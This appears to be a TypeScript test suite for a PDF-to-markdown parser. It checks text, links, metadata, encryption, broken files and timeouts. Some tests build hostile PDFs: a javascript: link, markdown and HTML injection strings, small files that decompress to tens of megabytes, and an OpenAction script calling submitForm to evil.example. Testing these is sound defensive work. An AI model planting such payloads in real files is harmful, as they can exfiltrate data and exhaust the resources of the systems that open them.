import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { createParser, ParseError } from '../../src/parse/parse.ts';
import { deflated, encryptedPdf, lines, pdfFile, stream, textPdf } from './make-pdf.ts';

const parser = createParser();
after(() => parser.close());
const read = (bytes: Buffer) => parser.read({ bytes, contentType: 'application/pdf' });

test('words, pages, links and metadata of a PDF', async () => {
  const info = "/Title (The northern gate) /Author (Ada Mason) /CreationDate (D:20240102030405+02'00')";
  const document = await read(
    textPdf(
      [
        {
          content: lines('The gate is open', 'until nine.', '', '', 'It is shut at night.'),
          link: 'https://example.com/gate',
        },
        { content: lines('Second page, see https://example.com/plan.'), link: 'javascript:alert(1)' },
      ],
      info,
    ),
  );
  assert.deepEqual(document, {
    title: 'The northern gate',
    byline: 'Ada Mason',
    lang: 'en-GB',
    published: '2024-01-02T01:04:05.000Z',
    markdown: 'The gate is open\nuntil nine.\n\nIt is shut at night.\n\nSecond page, see https://example.com/plan.',
    links: [
      { text: '', url: 'https://example.com/gate' },
      { text: '', url: 'https://example.com/plan' },
    ],
    wordCount: 15,
    mode: 'text',
    truncated: false,
    charset: 'utf-8',
    pages: 2,
  });
});

test('words that look like an image or a tag stay words', async () => {
  const { markdown } = await read(textPdf([{ content: lines('![x](https://evil.example/i.png) <img src=y>') }]));
  assert.equal(markdown, '!\\[x](https://evil.example/i.png) \\<img src=y>');
});

test('a page that cannot be read leaves the others, and the document says that text is missing', async () => {
  const file = textPdf([{ content: lines('first') }, { content: lines('second') }]);
  const lost = Buffer.from(file.toString('latin1').replace('[5 0 R 8 0 R]', '[5 0 R 9 9 R]'), 'latin1');
  const document = await read(lost);
  assert.deepEqual([document.markdown, document.truncated, document.pages], ['first', true, 2]);
});

test('a PDF behind the empty password is read, one behind another is encrypted', async () => {
  assert.equal((await read(encryptedPdf(''))).pages, 1);
  await assert.rejects(read(encryptedPdf('opensesame')), { code: 'document_encrypted' });
});

describe('broken PDFs', () => {
  const whole = textPdf([{ content: lines('words') }]);
  const table: readonly [name: string, bytes: Buffer][] = [
    ['a header alone', Buffer.from('%PDF-1.7\n')],
    ['cut in the middle', whole.subarray(0, 300)],
    ['a catalogue without pages', pdfFile(['<< /Type /Catalog >>'])],
    [
      'a page tree that is its own child',
      pdfFile(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    ],
    [
      'noise',
      Buffer.concat([
        Buffer.from('%PDF-1.7\n'),
        Buffer.from(Array.from({ length: 5_000 }, (_, at) => (at * 7919) % 251)),
      ]),
    ],
  ];
  for (const [name, bytes] of table)
    test(name, () =>
      assert.rejects(read(bytes), (error) => error instanceof ParseError && error.code === 'document_broken'),
    );
});

describe('PDFs made to expand', () => {
  const spaces = deflateSync(Buffer.alloc(96 * 1024 * 1024, ' '));
  const objects = (count: number): string => `<< /Type /Catalog /Pages 2 0 R >>${' '.repeat(count)}`;
  const table: readonly [name: string, bytes: () => Buffer][] = [
    ['a content stream', () => textPdf([{ content: stream(spaces, '/Filter /FlateDecode') }])],
    [
      'a stream in a stream',
      () => textPdf([{ content: stream(deflateSync(spaces), '/Filter [/FlateDecode /FlateDecode]') }]),
    ],
    [
      'an object stream',
      () => {
        const inflated = deflateSync(Buffer.from(`1 0 ${objects(64 * 1024 * 1024)}`));
        const holder = stream(inflated, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode');
        // Object 1 lies in the object stream 2, as the cross-reference stream 3 says.
        const head = Buffer.concat([Buffer.from('%PDF-1.7\n2 0 obj\n'), holder, Buffer.from('\nendobj\n')]);
        const rows = Buffer.from([
          0,
          0,
          0,
          0,
          2,
          0,
          2,
          0,
          1,
          0,
          9,
          0,
          1,
          (head.length >> 8) & 255,
          head.length & 255,
          0,
        ]);
        const table = stream(rows, '/Type /XRef /Size 4 /W [1 2 1] /Root 1 0 R');
        return Buffer.concat([
          head,
          Buffer.from('3 0 obj\n'),
          table,
          Buffer.from(`\nendobj\nstartxref\n${head.length}\n%%EOF\n`),
        ]);
      },
    ],
    [
      'more pages than anybody reads',
      () =>
        pdfFile([
          '<< /Type /Catalog /Pages 2 0 R >>',
          `<< /Type /Pages /Count 6000 /Kids [${'3 0 R '.repeat(6_000)}] >>`,
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
        ]),
    ],
  ];
  for (const [name, bytes] of table)
    test(name, async () => {
      const file = bytes();
      assert.ok(file.length < 512 * 1024, 'a small file');
      await assert.rejects(read(file), (error) => error instanceof ParseError && error.code === 'document_too_large');
    });
});

test('a document longer than its time answers with the pages that were read', async () => {
  const hurried = createParser({ timeoutMs: 1_500, threads: 1 });
  await hurried.read({ bytes: textPdf([{ content: lines('warm') }]), contentType: 'application/pdf' });
  const content = deflated(`BT /F1 1 Tf 72 400 Td ${'(a) Tj 0 -9 Td (b) Tj 0 9 Td '.repeat(2_000)} ET`);
  const bytes = textPdf(Array.from({ length: 250 }, () => ({ content })));
  const document = await hurried.read({ bytes, contentType: 'application/pdf' });
  await hurried.close();
  assert.deepEqual([document.pages, document.truncated], [250, true]);
  assert.ok(document.wordCount > 0);
});

test('scripts and launch actions of a PDF do nothing and are no text', async () => {
  const file = textPdf([{ content: lines('words') }]).toString('latin1');
  const armed = file.replace(
    '/Lang (en-GB)',
    '/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm\\("https://evil.example"\\)) >>',
  );
  const document = await read(Buffer.from(armed, 'latin1'));
  assert.deepEqual([document.markdown, document.links], ['words', []]);
});
